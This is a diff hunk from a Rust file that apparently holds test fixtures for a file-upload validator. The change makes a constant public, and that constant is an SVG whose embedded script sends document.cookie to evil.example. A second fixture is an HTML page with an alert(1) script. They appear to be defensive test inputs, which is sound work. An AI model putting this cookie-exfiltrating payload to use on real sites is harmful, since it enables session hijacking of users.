@@ -136,7 +136,7 @@ fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
     out.extend_from_slice(&crc.sum().to_be_bytes());
 }
 
-const SVG_WITH_SCRIPT: &str = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\"><script>fetch('https://evil.example/?c='+document.cookie)</script><circle cx=\"50\" cy=\"50\" r=\"40\"/></svg>\n";
+pub const SVG_WITH_SCRIPT: &str = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\"><script>fetch('https://evil.example/?c='+document.cookie)</script><circle cx=\"50\" cy=\"50\" r=\"40\"/></svg>\n";
 const HTML_PAGE: &str = "<!DOCTYPE html><html><head><title>Not a picture</title></head><body><script>alert(1)</script></body></html>";
 const TWENTY_MB: usize = 20 * 1024 * 1024;
 
